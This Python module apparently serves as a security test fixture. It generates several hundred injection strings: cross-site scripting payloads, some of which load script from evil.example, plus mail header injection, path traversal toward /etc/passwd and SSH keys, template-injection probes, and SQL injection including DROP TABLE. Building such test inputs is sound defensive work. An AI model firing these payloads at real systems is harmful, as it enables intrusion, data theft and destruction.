"""Texts that strangers send to break out of where a text belongs: into tags, headers, templates, paths, logs."""

from __future__ import annotations

from itertools import product
from typing import Final

MARK: Final = "x55"
"""Stands in each payload that is to run something."""
_SCRIPTS: Final = (
    "<script>{run}</script>",
    "<ScRiPt src=//evil.example/{mark}.js></sCrIpT>",
    "<img src=x onerror={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>{run}</script>'>",
    "<iframe src=javascript:{run}>",
    "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>",
    "<a href=javascript:{run}>{mark}</a>",
    "<a href='jav&#x09;ascript:{run}'>{mark}</a>",
    "<a href=' javascript:{run}'>{mark}</a>",
    "<form action=javascript:{run}><button>{mark}</button></form>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<math><mi//xlink:href='javascript:{run}'>{mark}</math>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=//evil.example/{mark}/>",
    "<link rel=stylesheet href=//evil.example/{mark}.css>",
    "<style>@import '//evil.example/{mark}.css'</style>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={run}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<template><script>{run}</script></template>",
    "<textarea></textarea><script>{run}</script>",
    "<!--><script>{run}</script>-->",
    "<![CDATA[><script>{run}</script>]]>",
)
_BREAKS: Final = ("{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "\u2028{}")
_LINES: Final = (
    "\r\n",
    "\n",
    "\r",
    "\v",
    "\f",
    "\x1c",
    "\x85",
    "\u2028",
    "\u2029",
    "%0d%0a",
    "=0D=0A",
    "\\r\\n",
    "\0\r\n",
)
_HEADERS: Final = ("Bcc: eve@evil.example", "Subject: {mark}", "\r\n<script>{mark}</script>")
_PATHS: Final = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\secret.bib",
    "....//....//secret",
    "%2e%2e%2fsecret",
    "..%c0%afsecret",
    "con",
    "~/.ssh/id_rsa",
)
_TEMPLATES: Final = (
    "{{7*7}}{mark}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{mark}{% endfor %}",
    "{{config}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ site_title.__init__.__globals__ }}",
    "%(mark)s%n%s%x",
    "{0.__class__}",
)
_ODD: Final = (
    "' OR 1=1 --",
    "'; DROP TABLE subscriber; --",
    "\u202eevil",
    "\ufeff",
    "\0",
    "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
    "a" * 5000,
    "💥" * 500,
    "\x1b[2J\x1b]0;x\x07",
    "NaN",
    "-1",
    "99999999999999999999",
)


def payloads() -> list[str]:
    """250 of them and some more, each once."""
    run = f"alert`{MARK}`"
    scripts = [
        around.format(one.replace("{run}", run).replace("{mark}", MARK)) for around, one in product(_BREAKS, _SCRIPTS)
    ]
    headers = [f"Ada{line}{one.replace('{mark}', MARK)}" for line, one in product(_LINES, _HEADERS)]
    found = [*scripts, *headers, *_PATHS, *(one.replace("{mark}", MARK) for one in _TEMPLATES), *_ODD]
    return list(dict.fromkeys(found))
